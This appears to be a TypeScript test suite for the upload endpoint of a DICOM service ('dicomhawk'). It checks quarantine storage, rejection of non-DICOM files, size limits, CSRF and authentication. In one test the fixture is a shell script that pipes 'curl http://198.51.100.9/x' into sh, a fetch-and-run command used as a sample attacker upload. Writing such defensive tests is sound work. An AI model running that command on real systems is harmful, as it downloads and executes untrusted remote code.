import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { makeDicomFile } from '../../helpers/dicomFiles.ts';
import { Browser, startWeb, type WebServer } from './harness.ts';

// The server runs in this process: curl must run asynchronously.
const run = promisify(execFile);

let s: WebServer;
let b: Browser;
let csrf: string;
let dicom: Buffer;
const SOP = '1.2.826.0.1.3680043.2.99.77.1.1';

before(async () => {
  s = await startWeb({ API_UPLOAD_MAX_BYTES: '64K', API_UPLOAD_MAX_FILES: '3' });
  b = new Browser(s.url);
  await b.login('test', 'test');
  csrf = /name="_csrf" value="([^"]+)"/.exec(await (await b.req('/upload')).text())![1]!;
  dicom = readFileSync(makeDicomFile(s.dir, 'up', { patientName: 'Upload^Test', patientId: 'UP1', studyUid: '1.2.826.0.1.3680043.2.99.77', seriesUid: '1.2.826.0.1.3680043.2.99.77.1', sopUid: SOP }));
});
after(async () => {
  await s.stop();
});

function form(files: Array<{ name: string; data: Buffer }>, token: string | null = csrf): FormData {
  const f = new FormData();
  if (token !== null) f.append('_csrf', token);
  for (const x of files) f.append('files', new Blob([new Uint8Array(x.data)]), x.name);
  return f;
}

function quarantined(): Array<{ sha256: string; channel: string; filename: string; sop_instance: string | null }> {
  return s.db.prepare('SELECT sha256, channel, filename, sop_instance FROM quarantine_uploads ORDER BY id').all() as never;
}

test('a DICOM file is accepted into the quarantine (channel web); web.upload lists it with its hash', async () => {
  const r = await b.req('/upload', { method: 'POST', body: form([{ name: 'ct.dcm', data: dicom }]) });
  assert.equal(r.status, 200);
  const html = await r.text();
  assert.match(html, /Accepted/);
  assert.ok(html.includes(SOP));
  const ev = s.eventsOf('dicomhawk.web.upload').at(-1)!;
  assert.equal(ev.files.length, 1);
  const f = ev.files[0]!;
  assert.equal(f.name, 'ct.dcm');
  assert.equal(f.size, dicom.length);
  assert.equal(f.accepted, true);
  const q = quarantined().at(-1)!;
  assert.equal(q.channel, 'web');
  assert.equal(q.sha256, f.sha256);
  assert.equal(q.sop_instance, SOP);
  assert.deepEqual(readFileSync(s.quarantine.pathOf(f.sha256)), dicom, 'kept byte for byte');
});

test('a non-DICOM file is stored in the quarantine but rejected (400, per-file reason)', async () => {
  const junk = Buffer.from('#!/bin/sh\ncurl http://198.51.100.9/x | sh\n');
  const r = await b.req('/upload', { method: 'POST', body: form([{ name: 'shell.sh', data: junk }]) });
  assert.equal(r.status, 400);
  assert.match(await r.text(), /Rejected[^]*not a DICOM Part 10 file/);
  const f = s.eventsOf('dicomhawk.web.upload').at(-1)!.files[0]!;
  assert.equal(f.accepted, false);
  assert.equal(f.reason, 'not a DICOM Part 10 file');
  assert.ok(quarantined().some((q) => q.filename === 'shell.sh'), 'what attackers send is kept');
});

test('a truncated DICOM file is rejected as invalid', async () => {
  const r = await b.req('/upload', { method: 'POST', body: form([{ name: 'cut.dcm', data: dicom.subarray(0, dicom.length - 100) }, { name: 'ok.dcm', data: dicom }]) });
  assert.equal(r.status, 200, 'one file of two accepted');
  const files = s.eventsOf('dicomhawk.web.upload').at(-1)!.files;
  assert.deepEqual(files.map((f) => f.accepted), [false, true]);
  assert.match(files[0]!.reason ?? '', /invalid DICOM|damaged|not a DICOM/);
});

test('an oversized upload is refused with 413 (declared length, or bytes past the limit)', async () => {
  const big = Buffer.alloc(70 * 1024, 1);
  const r = await b.req('/upload', { method: 'POST', body: form([{ name: 'big.bin', data: big }]) });
  assert.equal(r.status, 413);
  assert.match(r.headers.get('content-type') ?? '', /text\/html/);
  // Chunked (no Content-Length): the multipart limit stops it.
  const { stdout: out } = await run('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', '-H', `cookie: ${b.cookie}`, '-H', 'Transfer-Encoding: chunked', '-F', `_csrf=${csrf}`, '-F', `files=@${writeBig(s.dir)}`, `${s.url}/upload`]);
  assert.equal(out, '413');
  assert.equal(s.eventsOf('dicomhawk.web.request').filter((e) => e.path === '/upload' && e.status === 413).length, 2);
});

function writeBig(dir: string): string {
  const p = join(dir, 'big.bin');
  writeFileSync(p, Buffer.alloc(100 * 1024, 7));
  return p;
}

test('more files than API_UPLOAD_MAX_FILES: 413', async () => {
  const r = await b.req('/upload', { method: 'POST', body: form([1, 2, 3, 4].map((i) => ({ name: `f${i}.dcm`, data: dicom }))) });
  assert.equal(r.status, 413);
});

test('an upload without the CSRF token is refused with 403 and nothing is stored', async () => {
  const before = quarantined().length;
  const r = await b.req('/upload', { method: 'POST', body: form([{ name: 'x.dcm', data: dicom }], null) });
  assert.equal(r.status, 403);
  assert.equal(quarantined().length, before);
});

test('malformed multipart is a 400 page; a non-multipart body 415', async () => {
  const bad = await b.req('/upload', { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=XYZ' }, body: `--XYZ\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\n${csrf}\r\n--XYZ\r\nContent-Disposition: form-data; name="files"; filename="a.dcm"\r\n\r\nDICM-no-end` });
  assert.equal(bad.status, 400);
  assert.match(await bad.text(), /malformed/);
  const json = await b.req('/upload', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"a":1}' });
  assert.equal(json.status, 415);
  assert.doesNotMatch(await json.text(), /"statusCode"|FST_/);
});

test('uploads need a signed-in session (401 without one)', async () => {
  const r = await fetch(`${s.url}/upload`, { method: 'POST', body: form([{ name: 'x.dcm', data: dicom }]) });
  assert.equal(r.status, 401);
});

test('curl -F uploads like a browser does', async () => {
  const path = join(s.dir, 'curl.dcm');
  writeFileSync(path, dicom);
  const { stdout: out } = await run('curl', ['-s', '-w', '\n%{http_code}', '-H', `cookie: ${b.cookie}`, '-F', `_csrf=${csrf}`, '-F', `files=@${path}`, `${s.url}/upload`]);
  assert.match(out, /Accepted/);
  assert.ok(out.endsWith('\n200'));
});
